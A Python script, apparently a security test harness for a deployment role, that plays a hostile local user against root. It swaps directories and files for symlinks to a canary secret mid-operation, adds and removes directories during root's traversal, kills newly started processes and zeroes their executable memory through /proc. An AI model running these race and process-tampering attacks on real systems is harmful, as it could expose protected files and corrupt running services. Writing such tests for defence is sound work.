"""A process that changes trees while root works in them, or that attacks processes of its user.

    python3 intruder.py ATTACK...

goes on until its standard input ends. It looks for trees wherever builds could have them, so that
it depends on no path of the role.
"""

from __future__ import annotations

import os
import select
import shutil
import signal
import sys
from collections.abc import Iterator
from contextlib import suppress
from itertools import chain
from pathlib import Path

ROOTS = ("/tmp", "/var/tmp", "/srv/wsgi/evil", "/var/cache/wsgi/evil", "/var/lib/wsgi/evil")
DEPTH = 6
CANARY = "/opt/canary"
SPARED = {name for name in os.listdir("/proc") if name.isdigit()}
"""The processes that were there before, as the app, and this one."""


def entries(path: str, depth: int = DEPTH) -> Iterator[os.DirEntry]:
    """Yield the paths below ``path``, parents first, without the large directories."""
    with suppress(OSError), os.scandir(path) as found:
        for entry in found:
            yield entry
            # Root does not work in the downloads of uv.
            passed = is_large(entry) or entry.name in ("pip", "uv")
            if depth and entry.is_dir(follow_symlinks=False) and not passed:
                yield from entries(entry.path, depth - 1)


def is_large(entry: os.DirEntry) -> bool:
    """Return whether ``entry`` is one of the directories that make the tree large."""
    return entry.name.startswith("large_")


def swap_directories(entry: os.DirEntry) -> None:
    """Put a link to the canaries in the place of a directory that root may be about to enter."""
    if is_large(entry) and entry.is_dir(follow_symlinks=False):
        os.rename(entry.path, f"{entry.path}.away")
        os.symlink(CANARY, entry.path)


def swap_files(entry: os.DirEntry) -> None:
    """Make a file a link to the canary, or a file again, while root may be about to copy it."""
    if entry.name.startswith("swap_") and entry.name.endswith(".py"):
        toggle(entry.path)


def add_directories(entry: os.DirEntry) -> None:
    """Make directories where root may have looked already, or remove them again."""
    if not is_large(entry):
        return
    added = Path(entry.path, "added")
    if added.exists():
        shutil.rmtree(added, ignore_errors=True)
        with suppress(OSError):
            toggle(str(added / "swap_added.py"))
    else:
        added.mkdir(0o777)
        (added / "swap_added.py").touch()


def kill_processes(entry: os.DirEntry) -> None:
    """Kill a process that came later, if it may be killed."""
    if is_later_process(entry):
        os.kill(int(entry.name), signal.SIGKILL)


def overwrite_memory(entry: os.DirEntry) -> None:
    """Overwrite the code of a process that came later, if its memory may be written."""
    if not is_later_process(entry):
        return
    with open(f"{entry.path}/maps") as maps, open(f"{entry.path}/mem", "r+b", 0) as memory:
        for line in maps:
            addresses, permissions, *_ = line.split()
            if "x" in permissions and not line.rstrip().endswith("]"):
                memory.seek(int(addresses.split("-")[0], 16))
                memory.write(bytes(4096))


def is_later_process(entry: os.DirEntry) -> bool:
    """Return whether ``entry`` is a process that was not there before."""
    return entry.path.startswith("/proc/") and entry.name.isdigit() and entry.name not in SPARED


def toggle(path: str) -> None:
    """Replace a file by a link to the canary, or such a link by the file."""
    if os.path.islink(path):
        os.rename(f"{path}.away", path)
    else:
        os.rename(path, f"{path}.away")
        os.symlink(f"{CANARY}/secret.py", path)


def main() -> None:
    """Attack until standard input ends."""
    attacks = [globals()[name] for name in sys.argv[1:]]
    while not select.select([sys.stdin], [], [], 0)[0]:
        for entry in chain(entries("/proc", depth=0), *map(entries, ROOTS)):
            for attack in attacks:
                with suppress(OSError):
                    attack(entry)


if __name__ == "__main__":
    main()
